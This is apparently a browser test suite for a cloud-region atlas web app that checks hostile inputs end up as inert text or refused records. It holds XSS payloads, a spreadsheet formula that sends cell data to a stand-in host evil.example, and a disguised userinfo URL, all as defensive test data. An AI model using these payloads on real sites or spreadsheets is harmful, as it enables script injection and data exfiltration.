// Hostile and broken inputs against the release build: each ends in a clear
// in-page message or a correct render; never a blank page, a panic or executed script.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { setup, teardown, guardedPage, download, revealed, byDefault, chipQuery, DIST } from './harness.mjs';

let env;
before(async () => (env = await setup()));
after(async () => teardown(env));

const base = JSON.parse(fs.readFileSync(path.join(DIST, 'data/atlas.json'), 'utf8'));

async function withDataset(body, { status = 200, q = '' } = {}) {
  const page = await guardedPage(env, { viewport: { width: 1280, height: 900 } });
  await page.exposeFunction('__pwned', () => (page.pwned = true));
  await page.route('**/data/atlas.json', (route) =>
    route.fulfill({ status, contentType: 'application/json', body: typeof body === 'string' ? body : JSON.stringify(body) }),
  );
  await page.goto(env.url + q);
  await page.waitForSelector('[data-testid=summary], [role=alert]');
  return page;
}

test('markup and script in titles, notes and URLs stay text; javascript: sources never become links', async () => {
  const doc = structuredClone(base);
  doc.events[0].title = '<script>__pwned()</script><img src=x onerror="__pwned()">';
  doc.regions[0].note = '<img src=x onerror="__pwned()"> javascript:__pwned()';
  doc.regions[0].name = '"><svg onload="__pwned()">';
  doc.sources.push({ id: 'evil', url: 'javascript:__pwned()', publisher: '<b>evil</b>' });
  doc.events[1].sources = ['evil'];
  for (const q of ['?view=table', `?view=table&sel=${encodeURIComponent(doc.regions[0].id)}`, '?view=timeline', '?q=%3Cscript%3E__pwned()%3C%2Fscript%3E']) {
    const page = await withDataset(doc, { q });
    // Wait for the hostile text to be on screen (as text), not for a fixed time.
    // (The search for the script matches nothing, so there its summary is what shows.)
    await page.waitForSelector(q.includes('sel=') ? '[data-testid=detail]' : q.includes('timeline') ? '[data-testid=timeline-chart] svg' : q.includes('table') ? '[data-testid=region-table] tbody tr' : '[data-testid=summary]');
    assert.equal(page.pwned, undefined, `no script ran for ${q}`);
    assert.equal(await page.locator('a[href^="javascript:"]').count(), 0);
    assert.equal(await page.locator('main img').count(), 0);
    assert.deepEqual(page.problems.errors, []);
    await page.context().close();
  }
  const page = await withDataset(doc, { q: '?view=table' });
  await page.getByRole('button', { name: /^Events \(/ }).click();
  assert.ok((await page.textContent('[data-testid=event-table]')).includes('<script>__pwned()</script>'), 'shown as text');
  assert.match(await page.locator('.notice', { hasText: 'skipped' }).textContent(), /not an http\(s\) address/);
  await page.context().close();
});

test('missing fields, duplicate ids and out-of-range coordinates are skipped and named', async () => {
  const doc = structuredClone(base);
  delete doc.regions[0].name;
  doc.regions[1].lon = 181;
  doc.regions[2].id = doc.regions[3].id;
  delete doc.events[0].date;
  const page = await withDataset(doc);
  const notice = await page.locator('.notice', { hasText: 'skipped' }).textContent();
  assert.match(notice, /4 records skipped/);
  assert.match(notice, /missing field `name`/);
  assert.match(notice, /longitude 181/);
  assert.match(notice, /duplicate id/);
  assert.match(notice, /missing field `date`/);
  // What the notice lists as skipped (all of providers compared by default): three regions, one event.
  const shown = byDefault(base);
  const [r, e] = [shown.regions.length - 3, shown.events.length - 1];
  assert.match(await page.textContent('[data-testid=counts]'), new RegExp(`^${r} of ${base.regions.length - 3} regions, ${e} of ${base.events.length - 1} events`));
  await page.context().close();
});

test('a wrong schema, an empty body and a 500 each explain themselves with Retry', async () => {
  for (const [body, status, expected] of [
    [{ ...base, schema: 2 }, 200, /uses schema 2/],
    ['', 200, /not valid JSON/],
    ['oops', 500, /server answered 500/],
    [{ schema: 1 }, 200, /incomplete/],
  ]) {
    const page = await withDataset(body, { status });
    assert.match(await page.locator('[role=alert]').textContent(), expected);
    assert.ok(await page.getByRole('button', { name: 'Retry' }).isVisible());
    assert.deepEqual(page.problems.errors, []);
    await page.context().close();
  }
});

test('a 10 MB dataset still loads and filters', async () => {
  const doc = structuredClone(base);
  const padding = 'x'.repeat(2000);
  for (let i = 0; doc.events.length < base.events.length + 4800; i++) {
    const e = structuredClone(base.events[i % base.events.length]);
    e.id = `synthetic-${i}`;
    e.note = padding;
    doc.events.push(e);
  }
  const body = JSON.stringify(doc);
  assert.ok(body.length > 10_000_000, `${body.length} bytes`);
  const page = await withDataset(body);
  const shown = byDefault(doc);
  assert.match(await page.textContent('[data-testid=counts]'), new RegExp(`^${shown.regions.length} of ${doc.regions.length} regions, ${shown.events.length} of ${doc.events.length} events`));
  await page.getByRole('group', { name: 'Providers' }).getByRole('button', { name: /^Tencent Cloud/ }).click();
  await page.waitForFunction((q) => location.search === q, chipQuery(doc, 'tencent'));
  // The chip took Tencent Cloud out of the comparison.
  const rest = shown.regions.filter((r) => r.provider !== 'tencent').length;
  assert.match(await page.textContent('[data-testid=counts]'), new RegExp(`^${rest} of ${base.regions.length} regions`));
  await page.context().close();
});

// A stalled response (no answer, or headers then silence): see download.test.mjs.

// ---- Round two (issue 25): the hostile-input corpus in the browser. Each test is named
// after what a person saw before its fix; `tests/hostile.rs` holds the native half.


/** A piece split out of a CSV line that a spreadsheet would run (numbers aside). */
const runsAsFormula = (piece) => {
  const p = piece.replace(/^["\s]+/, '');
  return /^[=+\-@\t\r]/.test(p) && Number.isNaN(Number(p.replace(/"$/, '')));
};

const FORMULA = 'x;=HYPERLINK("http://evil.example/?"&A1,"Click")';

test('a name with a semicolon and a formula is inert in the CSV under , ; and TAB separators', async () => {
  const doc = structuredClone(base);
  for (const r of doc.regions) r.name = FORMULA;
  for (const e of doc.events) e.title = `t\t@SUM(1);-2+3`;
  const page = await withDataset(doc, { q: '?view=table' });
  for (const name of [/^Regions CSV/, /^Events CSV/]) {
    const file = await download(env, page, () => page.getByRole('button', { name }).click());
    const text = file.body.toString('utf8');
    for (const line of text.split(/\r\n|\n|\r/)) {
      for (const sep of [',', ';', '\t']) {
        const bad = line.split(sep).filter(runsAsFormula);
        assert.deepEqual(bad, [], `${file.name} split on ${JSON.stringify(sep)}`);
      }
    }
    const neutral = name.source.includes('Regions') ? `"x;'=HYPERLINK(` : `"t	'@SUM(1);'-2+3"`;
    assert.ok(text.includes(neutral), `${file.name}: the pieces after the separators are neutralised, the cell quoted`);
  }
  assert.deepEqual(page.problems.errors, []);
  await page.context().close();
});

test('control characters in a region name or a map shape give a record skipped by name and an SVG a strict XML parser reads', async () => {
  const doc = structuredClone(base);
  doc.regions[0].name = 'Riyadh\u0001\u0008';
  const world = JSON.parse(fs.readFileSync(path.join(DIST, 'geo/world.json'), 'utf8'));
  for (const c of world.countries) c.name += '\u0007\uFFFE';
  const page = await guardedPage(env, { viewport: { width: 1280, height: 900 } });
  await page.route('**/data/atlas.json', (route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(doc) }));
  await page.route('**/geo/world.json', (route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(world) }));
  await page.goto(env.url);
  await page.waitForSelector('[data-testid=summary]');
  assert.match(await page.locator('.notice', { hasText: 'skipped' }).textContent(), /name contains a control character or non-character \(U\+0001\)/);
  const svg = (await download(env, page, () => page.getByRole('button', { name: 'SVG image' }).click())).body.toString('utf8');
  assert.ok(svg.includes('<title>'), 'the shapes are in the picture');
  const error = await page.evaluate((s) => {
    const d = new DOMParser().parseFromString(s, 'image/svg+xml');
    return d.getElementsByTagName('parsererror')[0]?.textContent ?? null;
  }, svg);
  assert.equal(error, null, 'the SVG is well-formed XML');
  const png = await download(env, page, () => page.getByRole('button', { name: 'PNG image' }).click());
  assert.ok(png.name.endsWith('.png') && png.body.length > 1000);
  assert.deepEqual(page.problems.errors, []);
  await page.context().close();
});

test('an image the browser cannot draw says so instead of doing nothing', async () => {
  const page = await guardedPage(env, { viewport: { width: 1280, height: 900 } });
  // Every image fails to decode, as a malformed SVG did.
  await page.addInitScript(() => {
    Object.defineProperty(HTMLImageElement.prototype, 'src', {
      set() { setTimeout(() => this.onerror?.(new Event('error'))); },
      get() { return ''; },
    });
  });
  await page.goto(env.url);
  // The pre-render's buttons are inert: wait for the app's (a click before it took over was lost).
  await revealed(page);
  await page.waitForSelector('path.country');
  await page.getByRole('button', { name: 'PNG image' }).click();
  await page.getByText('The image could not be made from this view.').waitFor();
  assert.deepEqual(page.problems.errors, []);
  await page.context().close();
});

test('text holding {0} or {1} is shown as written, never filled in again', async () => {
  const doc = structuredClone(base);
  const p = doc.providers[0];
  p.name = `Ali{1}{0}baba${'{1}'.repeat(3000)}`;
  p.name_zh = '阿里{1}{0}云';
  for (const lang of ['', '&lang=zh']) {
    const page = await withDataset(doc, { q: `?view=table&provider=${p.id}${lang}` });
    const title = await page.title();
    assert.ok(title.startsWith(lang ? '阿里{1}{0}云' : 'Ali{1}{0}baba{1}{1}'), title.slice(0, 60));
    assert.ok(title.length < 12_000, 'the title holds the name once, not the name filled into itself');
    assert.deepEqual(page.problems.errors, []);
    await page.context().close();
  }
});

test('thousands of invalid records and junk parameters give short notices with "and N more"', async () => {
  const doc = structuredClone(base);
  for (let i = 0; i < 3000; i++) doc.events.push({ id: `junk-${i}`, provider: 'nobody' });
  // 1,200 junk parameters (about 9 KB: under the 16 KB a Node server takes in a request line)
  const junk = Array.from({ length: 1200 }, (_, i) => `z${i}=1`).join('&');
  const page = await withDataset(doc, { q: `?${junk}` });
  const skipped = page.locator('.notice', { hasText: 'skipped' });
  assert.match(await skipped.textContent(), /3,?000 records skipped/);
  assert.equal(await skipped.locator('li').count(), 10);
  assert.match(await skipped.locator('summary').textContent(), /^and 2,990 more$/);
  await skipped.locator('summary').click();
  assert.equal((await skipped.locator('pre').textContent()).split('\n').length, 2990, 'the rest stays readable');
  const url = page.getByTestId('url-notice');
  assert.equal(await url.locator('li').count(), 10);
  assert.match(await url.locator('summary').textContent(), /^and 1,190 more$/);
  assert.deepEqual(page.problems.errors, []);
  await page.context().close();
});

test('records no link can name, a version no link can carry and a disguised source link are refused', async () => {
  const doc = structuredClone(base);
  doc.regions[0].id = 'has space';
  doc.sources.push({ id: 'disguised', url: 'https://alibabacloud.com@evil.example/', publisher: 'Alibaba Cloud' });
  doc.events[0].sources = ['disguised'];
  const named = doc.sources.find((s) => s.id === doc.regions[1].sources[0]);
  named.publisher = 'A Publisher';
  const page = await withDataset(doc, { q: '?view=table' });
  const notice = await page.locator('.notice', { hasText: 'skipped' }).textContent();
  assert.match(notice, /"has space": id .* no link could name it/);
  assert.match(notice, /plain host name/);
  assert.equal(await page.locator('a[href*="@"]').count(), 0);
  // Every source link shows the host it goes to.
  const link = page.locator('[data-testid=region-table] a.source', { hasText: 'A Publisher' }).first();
  const host = new URL(await link.getAttribute('href')).hostname;
  assert.equal(await link.locator('xpath=following-sibling::span[1]').textContent(), host);
  await page.context().close();
  const bad = await withDataset({ ...base, version: '2026 11/../x' });
  assert.match(await bad.locator('[role=alert]').textContent(), /version "2026 11\/\.\.\/x" is not/);
  assert.ok(await bad.getByRole('button', { name: 'Retry' }).isVisible());
  await bad.context().close();
});

test('a page path starting with // still writes every control into the address', async () => {
  const page = await guardedPage(env, { viewport: { width: 1280, height: 900 } });
  const html = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
  const odd = `${env.origin}/${new URL(env.url).pathname}`; // http://host//cloud-atlas/e2e/
  await page.route(`${odd}**`, (route) => route.fulfill({ status: 200, contentType: 'text/html', body: html }));
  await page.goto(odd);
  await page.waitForSelector('[data-testid=summary]');
  await page.getByRole('group', { name: 'Providers' }).getByRole('button', { name: /^Tencent Cloud/ }).click();
  await page.waitForFunction((q) => location.search === q, chipQuery(base, 'tencent'));
  assert.equal(await page.evaluate(() => location.pathname.startsWith('//')), true, 'on the same page');
  assert.deepEqual(page.problems.errors, []);
  await page.context().close();
});

test('Copy link on an origin without a clipboard shows the link to copy by hand', async () => {
  const page = await guardedPage(env, { viewport: { width: 1280, height: 900 } });
  await page.addInitScript(() => Object.defineProperty(Navigator.prototype, 'clipboard', { get: () => undefined }));
  await page.goto(env.url + '?provider=tencent');
  await page.waitForSelector('[data-testid=summary]');
  await page.getByRole('button', { name: 'Copy link' }).click();
  await page.getByText(/\?provider=tencent&d=/).first().waitFor();
  await page.getByRole('button', { name: 'Copy embed code' }).click();
  await page.getByText(/<iframe src=/).first().waitFor();
  assert.deepEqual(page.problems.errors, []);
  await page.context().close();
});
